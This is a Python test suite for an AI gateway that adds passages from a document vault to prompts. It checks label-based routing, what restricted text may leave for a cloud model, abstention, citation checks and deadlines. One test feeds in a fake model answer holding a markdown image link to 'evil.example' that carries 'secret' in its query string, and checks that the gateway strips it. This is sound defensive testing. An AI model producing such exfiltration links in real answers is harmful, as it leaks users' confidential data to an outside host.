"""Documents in the request path: their passages join the prompt, their labels the decision, and the receipt says which."""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from typing import Any, cast

import pytest

from freehold.domain.decisions import Outcome
from freehold.domain.deployment import Uncalibrated
from freehold.domain.errors.base import FreeholdError
from freehold.domain.errors.policy import NoPermittedDeployment
from freehold.domain.errors.untrusted import ServerToolRefused
from freehold.domain.errors.vault import (
    VaultLate,
    VaultNeedsExtra,
    VaultNoRoom,
    VaultNothingAsked,
    VaultUnknown,
)
from freehold.domain.labels import Level
from freehold.domain.request import InferenceRequest
from freehold.domain.retrieved import RetrievedDocument
from freehold.domain.vault import NOT_IN_DOCUMENTS, Found, VaultAsk, VaultQuery
from freehold.domain.zones import WORLD
from freehold.gateway.pipeline import Pipeline
from freehold.gateway.runtime import Deadlines
from freehold.wire.openai_request import decode_chat
from freehold.wire.receipt import receipt_headers
from tests.support.fake_engine import FakeAnswer, FakeEngine
from tests.support.fake_vault import FakeVault, passage
from tests.support.gateway import GOOD_KEY, INTERNAL, House, MemorySink
from tests.unit.gateway.test_learner import Listener
from tests.unit.gateway.test_pipeline import REQUEST_ID, engine, house

SECRET = passage("The Alder contract ends on 3 May.", document="alder", label="restricted", title="Alder")
ANA = frozenset({"user:ana"})
PLAIN = passage("The canteen opens at noon.", document="canteen", label="public", title="Canteen")


def asked(
    *messages: tuple[str, str], vault: object = True, stream: bool = False, model: str = "auto", **more: Any
) -> InferenceRequest:
    turns = [{"role": role, "content": text} for role, text in messages or (("user", "When does Alder end?"),)]
    body = {"model": model, "messages": turns, "vault": vault, "stream": stream, **more}
    return decode_chat(json.dumps(body).encode(), request_id=REQUEST_ID)


def home_and_cloud(*documents: Any, **route: object) -> tuple[House, FakeEngine, FakeEngine]:
    """A house whose route prefers the cloud."""
    cloud, small = engine("cloud", zone=WORLD), engine("small")
    at = house(cloud, small, **{"uncalibrated": Uncalibrated.ACCEPT, **route})
    at.vault = FakeVault(kept=documents)
    return at, cloud, small


def body_of(engine: FakeEngine) -> dict[str, Any]:
    (call,) = engine.calls
    return json.loads(call.body)


def test_a_question_without_documents_goes_to_the_cloud_and_with_a_restricted_one_stays() -> None:
    at, cloud, small = home_and_cloud(SECRET)
    asyncio.run(at.ask(asked(vault=None)))
    assert (len(cloud.calls), len(small.calls)) == (1, 0)
    at, cloud, small = home_and_cloud(SECRET)
    sink = asyncio.run(at.ask(asked()))
    assert (len(cloud.calls), len(small.calls)) == (0, 1)
    assert sink.text == "answer of small"
    receipt = at.receipt
    assert receipt.label.level is Level.RESTRICTED
    assert receipt.bytes_left == 0
    assert [each.rule for each in receipt.label_sources] == ["tenant:default", "vault:alder"]
    assert receipt.retrieved is not None
    assert receipt.retrieved.documents == (
        RetrievedDocument(id="alder", label="restricted;zones=device", passages=1, raised=True),
    )
    assert (receipt.retrieved.vault, receipt.retrieved.generation) == ("archive", 7)
    assert [each.deployment for each in receipt.decisions if not each.allowed] == ["cloud"]


def test_the_prompt_has_the_passages_before_the_question_and_nothing_of_ours_goes_upstream() -> None:
    at, _, small = home_and_cloud(SECRET, PLAIN)
    asyncio.run(
        at.ask(
            asked(
                ("system", "Be brief."),
                ("user", "Hi"),
                ("assistant", "Hello"),
                ("user", "When does Alder end, please, and why?"),
            )
        )
    )
    sent = body_of(small)
    assert "vault" not in sent
    assert [each["role"] for each in sent["messages"]] == ["system", "user", "assistant", "user"]
    last = sent["messages"][-1]["content"]
    assert last.endswith("\n\nWhen does Alder end, please, and why?")
    assert '[1] <document number="1" title="Alder" page="1">\nThe Alder contract ends on 3 May.\n</document>' in last
    assert '[2] <document number="2" title="Canteen"' in last


def test_only_a_document_that_asks_for_more_has_raised_the_label() -> None:
    at, cloud, _ = home_and_cloud(PLAIN)
    asyncio.run(at.ask(asked()))
    assert len(cloud.calls) == 1
    retrieved = at.receipt.retrieved
    assert retrieved is not None
    assert [each.raised for each in retrieved.documents] == [False]
    assert at.receipt.label.trusted is False


def test_a_vault_that_is_trusted_leaves_the_context_trusted() -> None:
    at, _, _ = home_and_cloud(PLAIN)
    at.trusted_vaults = frozenset({"archive"})
    asyncio.run(at.ask(asked()))
    assert at.receipt.label.trusted is True


def test_who_asks_for_what_may_leave_gets_that_and_is_told_how_much_was_left_out() -> None:
    at, cloud, small = home_and_cloud(SECRET, PLAIN, replace(SECRET, start=5))
    asyncio.run(at.ask(asked(vault={"only_what_may_leave": True})))
    assert (len(cloud.calls), len(small.calls)) == (1, 0)
    assert "Alder contract" not in cloud.calls[0].body.decode()
    assert "canteen" in cloud.calls[0].body.decode()
    retrieved = at.receipt.retrieved
    assert retrieved is not None
    assert retrieved.left_out == (("restricted", 2),)
    assert [each.id for each in retrieved.documents] == ["canteen"]


def test_what_may_not_leave_makes_room_for_further_ranks() -> None:
    secrets = tuple(
        passage(f"Secret {n}.", document=f"s{n}", label="restricted", level=Level.RESTRICTED) for n in range(30)
    )
    at_home = tuple(passage(f"At home {n}.", document=f"h{n}", label="public;zones=device") for n in range(5))
    plain = tuple(passage(f"Plain {n}.", document=f"p{n}") for n in range(5))
    at, cloud, small = home_and_cloud(*secrets, *at_home, *plain)
    asyncio.run(at.ask(asked(vault={"only_what_may_leave": True, "limit": 4})))
    assert (len(cloud.calls), len(small.calls)) == (1, 0)
    retrieved = at.receipt.retrieved
    assert retrieved is not None
    assert [each.id for each in retrieved.documents] == ["p0", "p1", "p2", "p3"]
    # The first four, and those at home that stood before the first plain ones; not how many secrets there are.
    assert retrieved.left_out == (("public", 5), ("restricted", 4))
    sent = cloud.calls[0].body.decode()
    assert "Secret" not in sent
    assert "At home" not in sent
    assert isinstance(at.vault, FakeVault)
    assert len(at.vault.queries) == 4
    assert all(each.limit == 4 for each in at.vault.queries)


def test_further_ranks_are_looked_for_only_so_often() -> None:
    at_home = tuple(passage(f"At home {n}.", document=f"h{n}", label="public;zones=device") for n in range(90))
    at, cloud, _ = home_and_cloud(*at_home, PLAIN)
    sink = asyncio.run(at.ask(asked(vault={"only_what_may_leave": True})))
    assert sink.text == NOT_IN_DOCUMENTS
    assert not cloud.calls
    assert isinstance(at.vault, FakeVault)
    assert len(at.vault.queries) == 5
    assert at.receipt.retrieved is not None
    assert at.receipt.retrieved.left_out == (("public", 32),)


def test_what_is_left_out_tells_nothing_of_documents_that_the_asker_may_not_read() -> None:
    hidden = tuple(
        passage(f"Hidden {n}.", document=f"x{n}", label="restricted", level=Level.RESTRICTED, names=ANA)
        for n in range(9)
    )
    seen: list[object] = []
    for more in ((), hidden):
        at, cloud, _ = home_and_cloud(*more, SECRET, PLAIN)
        sink = asyncio.run(at.ask(asked(vault={"only_what_may_leave": True})))
        assert isinstance(at.vault, FakeVault)
        queries = [(each.without, each.reader, each.limit) for each in at.vault.queries]
        receipt = replace(at.receipt, id="", total_ms=0.0, attempts=())
        seen.append((cloud.calls[0].body, sink.answer.whole(asked(), model="m"), receipt.retrieved, receipt, queries))
    assert seen[0] == seen[1]


def test_a_route_can_ask_for_all_its_chats() -> None:
    at, cloud, small = home_and_cloud(SECRET, PLAIN, vault="archive", only_what_may_leave=True)
    asyncio.run(at.ask(asked(vault=None)))
    assert (len(cloud.calls), len(small.calls)) == (1, 0)
    assert at.receipt.retrieved is not None


@pytest.mark.parametrize("stream", [False, True])
def test_where_documents_do_not_say_no_model_is_asked(stream: bool) -> None:
    for vault in (FakeVault(), FakeVault(kept=(SECRET,), support=0.2)):
        at, cloud, small = home_and_cloud()
        at.vault = vault
        sink = asyncio.run(at.ask(asked(stream=stream)))
        assert sink.text == NOT_IN_DOCUMENTS
        assert not cloud.calls
        assert not small.calls
        receipt = at.receipt
        assert receipt.outcome is Outcome.COMPLETE
        assert receipt.attempts == ()
        assert receipt.retrieved is not None
        assert receipt.retrieved.abstained
        assert receipt.retrieved.documents == ()
        assert (b"freehold-verdict", b"abstain; not_in_documents") in receipt_headers(receipt)
        assert sink.receipt is receipt
        assert sink.deployments == ["vault"]


@pytest.mark.parametrize(
    ("vault", "request_", "code"),
    [
        (FakeVault(fails=VaultNeedsExtra(missing="apsw", extra="vault")), asked(), VaultNeedsExtra),
        (FakeVault(known=("archive",)), asked(vault="others"), VaultUnknown),
        (FakeVault(kept=(SECRET,)), asked(("system", "x")), VaultNothingAsked),
        (FakeVault(kept=(SECRET,)), asked(("user", "word " * 20_000)), VaultNoRoom),
    ],
)
def test_what_cannot_be_searched_is_refused_and_nothing_leaves(
    vault: FakeVault, request_: InferenceRequest, code: type[FreeholdError]
) -> None:
    at, cloud, small = home_and_cloud()
    at.vault = vault
    with pytest.raises(code):
        asyncio.run(at.ask(request_))
    assert not cloud.calls
    assert not small.calls
    assert at.receipt.error_code == code.code


def test_a_gateway_without_vaults_says_that_there_is_none() -> None:
    at = house(engine("small"))
    with pytest.raises(VaultUnknown):
        asyncio.run(at.ask(asked()))


def test_a_refused_request_with_documents_is_not_held_for_a_release() -> None:
    cloud = engine("cloud", zone=WORLD)
    at = house(cloud)
    at.vault = FakeVault(kept=(SECRET,))
    with pytest.raises(NoPermittedDeployment):
        asyncio.run(at.ask(asked()))
    assert not cloud.calls
    assert at.receipt.retrieved is not None


def test_retrieved_text_makes_the_context_untrusted() -> None:
    at, _, _ = home_and_cloud(replace(PLAIN, document=replace(PLAIN.document, label="internal")))
    at.keys.tenant_label = INTERNAL
    with pytest.raises(ServerToolRefused) as refusal:
        asyncio.run(at.ask(asked(web_search_options={})))
    assert "vault:canteen" in refusal.value.message


def test_links_in_an_answer_from_documents_are_taken_out() -> None:
    small = engine("small", default=FakeAnswer(text="see ![x](https://evil.example/?q=secret) now"))
    at = house(small)
    at.keys.tenant_label = INTERNAL
    at.vault = FakeVault(kept=(SECRET,))
    assert "https://evil.example" not in asyncio.run(at.ask(asked())).text


@pytest.mark.parametrize("stream", [False, True])
def test_the_answer_tells_what_was_found(stream: bool) -> None:
    at, _, _ = home_and_cloud(SECRET)
    sink = asyncio.run(at.ask(asked(stream=stream)))
    told = _vault(sink, at, stream=stream)
    assert told["name"] == "archive"
    assert told["passages"][0]["document_id"] == "alder"
    assert told["passages"][0]["number"] == 1
    assert "text" not in told["passages"][0]


def _vault(sink: MemorySink, at: House, *, stream: bool) -> dict[str, Any]:
    if stream:
        found, *_ = [chunk.payload["vault"] for chunk in sink.chunks if chunk.payload and "vault" in chunk.payload]
        return found  # pyright: ignore[reportReturnType] - JSON
    del at
    return sink.answer.whole(asked(), model="m")["vault"]


def test_hidden_documents_change_nothing() -> None:
    hidden = passage("Nobody knows.", document="hidden", level=Level.PUBLIC, names=frozenset({"user:ana"}))
    seen: list[tuple[bytes, object]] = []
    for documents in ((SECRET, PLAIN), (SECRET, hidden, PLAIN)):
        at, _, small = home_and_cloud(*documents)
        sink = asyncio.run(at.ask(asked()))
        seen.append((small.calls[0].body, sink.answer.whole(asked(), model="m")))
        assert "hidden" not in str(at.receipt)
    assert seen[0] == seen[1]


def test_a_short_question_is_looked_for_with_the_one_before() -> None:
    at, _, _ = home_and_cloud(SECRET)
    asyncio.run(at.ask(asked(("user", "When does Alder end?"), ("assistant", "3 May [1]"), ("user", "And why?"))))
    assert isinstance(at.vault, FakeVault)
    (query,) = at.vault.queries
    assert query.text == "When does Alder end?\nAnd why?"
    assert (query.vault, query.limit, query.reader.tenant) == ("archive", 8, "default")


def test_passages_that_do_not_fit_are_left_behind_and_the_first_is_cut() -> None:
    many = tuple(passage(f"{number} " + "word " * 200, document=f"d{number}") for number in range(20))
    at, cloud, _ = home_and_cloud(*many)
    asyncio.run(at.ask(asked(vault={"limit": 20})))
    retrieved = at.receipt.retrieved
    assert retrieved is not None
    assert 3 < len(retrieved.documents) < 20
    assert len(cloud.calls[0].body) < 4096 * 4
    at, cloud, _ = home_and_cloud(passage("word " * 5_000))
    asyncio.run(at.ask(asked()))
    assert 5_000 < len(cloud.calls[0].body) < 4096 * 4


QUOTE = FakeAnswer(text='It says "The Alder contract ends on 3 May." [1] And "Alder pays nothing at all, ever."')


@pytest.mark.parametrize("stream", [False, True])
def test_quotes_are_checked_before_they_are_shown_and_sources_told(stream: bool) -> None:
    at = house(engine("small", default=QUOTE))
    at.vault = FakeVault(kept=(SECRET,))
    sink = asyncio.run(at.ask(asked(stream=stream)))
    assert '"The Alder contract ends on 3 May." [1]' in sink.text
    assert '"Alder pays nothing' not in sink.text
    if stream:
        told = [chunk.payload for chunk in sink.chunks if chunk.payload and "vault" in chunk.payload]
        first, last = told[0], told[-1]
        found, cited = cast("Any", first["vault"]), cast("Any", last["vault"])
        annotations = cast("Any", last["choices"])[0]["delta"]["annotations"]
    else:
        whole = sink.answer.whole(asked(), model="m")
        found = cited = whole["vault"]
        annotations = whole["choices"][0]["message"]["annotations"]
    assert found["passages"][0]["document_id"] == "alder"
    assert cited["citations"][0]["quote"] == "The Alder contract ends on 3 May."
    assert annotations[0]["file_citation"]["file_id"] == "alder"


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("said", ["[1]", " [1] [2]\n", "[1]. [2]"])
def test_an_answer_that_is_nothing_but_numbers_of_documents_is_none(stream: bool, said: str) -> None:
    at = house(engine("small", default=FakeAnswer(text=said)))
    at.vault = FakeVault(kept=(SECRET, PLAIN))
    sink = asyncio.run(at.ask(asked(stream=stream)))
    assert sink.text.strip(" .\n") == NOT_IN_DOCUMENTS.strip(".")
    last = sink.chunks[-1].payload if stream else sink.answer.whole(asked(), model="m")
    assert cast("Any", last)["vault"]["abstained"]


def test_all_events_of_a_stream_are_of_one_answer() -> None:
    at, _, _ = home_and_cloud(SECRET)
    sink = asyncio.run(at.ask(asked(stream=True)))
    payloads = [each.payload for each in sink.chunks if each.payload]
    assert "vault" in payloads[0]
    for name in ("id", "created", "model"):
        assert len({each[name] for each in payloads}) == 1, name  # pyright: ignore[reportArgumentType] - hashable
    assert sum("passages" in cast("Any", each.get("vault", {})) for each in payloads) == 1


def test_where_values_are_taken_out_of_answers_no_passage_tells_them() -> None:
    pii = passage("Write to ann@example.com about Alder.", document="mail", label="restricted")
    at = house(engine("small", default=FakeAnswer(text='Write to "ann@example.com about Alder."')), redact_answers=True)
    at.vault = FakeVault(kept=(pii,))
    request = replace(asked(), vault=VaultAsk(tells_texts=True))
    sink = asyncio.run(at.ask(request))
    assert "ann@example.com" not in json.dumps(sink.answer.whole(asked(), model="m"))


def test_an_engines_cache_of_a_prompt_with_documents_is_another_than_without() -> None:
    scopes: list[str] = []
    for documents, vault in (((SECRET,), None), ((SECRET,), True), ((PLAIN,), True)):
        at = house(engine("small"))
        at.vault = FakeVault(kept=documents)
        snapshot = replace(at.runtime(), cache_key=b"k" * 32)
        pipeline = Pipeline(services=at.services(), runtime=lambda snapshot=snapshot: snapshot)
        asyncio.run(pipeline.answer(asked(vault=vault), pipeline.authenticate(GOOD_KEY), MemorySink()))
        small = at.engines["small"]
        assert isinstance(small, FakeEngine)
        scopes.append(small.calls[0].cache_scope)
    assert len(set(scopes)) == len(scopes)


def test_an_answer_from_documents_is_not_learnt_from() -> None:
    at, listener = house(engine("small"), engine("large")), Listener(is_listening=True)
    at.vault = FakeVault(kept=(SECRET,))
    pipeline = Pipeline(services=replace(at.services(), learn=listener), runtime=at.runtime)
    asyncio.run(pipeline.answer(asked(), pipeline.authenticate(GOOD_KEY), MemorySink()))
    assert not listener.heard
    asyncio.run(pipeline.answer(asked(vault=None), pipeline.authenticate(GOOD_KEY), MemorySink()))
    assert len(listener.heard) == 1


class LateLook(FakeVault):
    """Finds, and then never says anything more."""

    async def documents(self, vault: str, **more: Any) -> Any:
        del vault, more
        return await asyncio.get_running_loop().create_future()


@pytest.mark.parametrize("stream", [False, True])
def test_a_look_before_sending_that_hangs_ends_at_the_deadline_and_nothing_is_sent(stream: bool) -> None:
    at, cloud, small = home_and_cloud(PLAIN)
    at.vault = LateLook(kept=(PLAIN,))
    snapshot = replace(at.runtime(), deadlines=Deadlines(total_s=0.02))
    pipeline = Pipeline(services=at.services(), runtime=lambda: snapshot)
    with pytest.raises(VaultLate):
        asyncio.run(pipeline.answer(asked(stream=stream), pipeline.authenticate(GOOD_KEY), MemorySink()))
    assert cloud.calls == small.calls == []
    assert "egress.intent" not in at.audit.events()


def test_documents_are_looked_at_once_before_an_attempt_and_never_without_passages() -> None:
    for kept, looks in (((PLAIN, SECRET), 1), ((), 0)):
        at, _, _ = home_and_cloud(*kept)
        asyncio.run(at.ask(asked()))
        assert isinstance(at.vault, FakeVault)
        assert at.vault.looks == looks


class Hangs(FakeVault):
    """Never finds anything."""

    async def search(self, query: VaultQuery) -> Found:
        self.queries.append(query)
        return await asyncio.get_running_loop().create_future()


def test_a_search_that_hangs_holds_no_request_beyond_its_deadline() -> None:
    at, cloud, small = home_and_cloud(PLAIN)
    at.vault = Hangs()
    snapshot = replace(at.runtime(), deadlines=Deadlines(total_s=0.02))
    pipeline = Pipeline(services=at.services(), runtime=lambda: snapshot)
    with pytest.raises(VaultLate, match=r"did not answer within 0\.02 s"):
        asyncio.run(pipeline.answer(asked(), pipeline.authenticate(GOOD_KEY), MemorySink()))
    assert not cloud.calls
    assert not small.calls
    assert at.receipt.error_code == VaultLate.code


@pytest.mark.parametrize(
    ("scopes", "told"), [({"infer"}, False), ({"infer", "manage"}, False), ({"infer", "admin"}, True)]
)
def test_only_an_admin_learns_the_generation_from_an_answer_and_its_receipt(scopes: set[str], told: bool) -> None:
    at, _, _ = home_and_cloud(PLAIN)
    pipeline, sink = Pipeline(services=at.services(), runtime=at.runtime), MemorySink()
    principal = replace(pipeline.authenticate(GOOD_KEY), scopes=frozenset(scopes))
    asyncio.run(pipeline.answer(asked(), principal, sink))
    shown = sink.answer.whole(asked(), model="m")["vault"]
    assert ("generation" in shown) is told
    assert at.receipt.retrieved is not None
    assert at.receipt.retrieved.generation == (7 if told else 0)
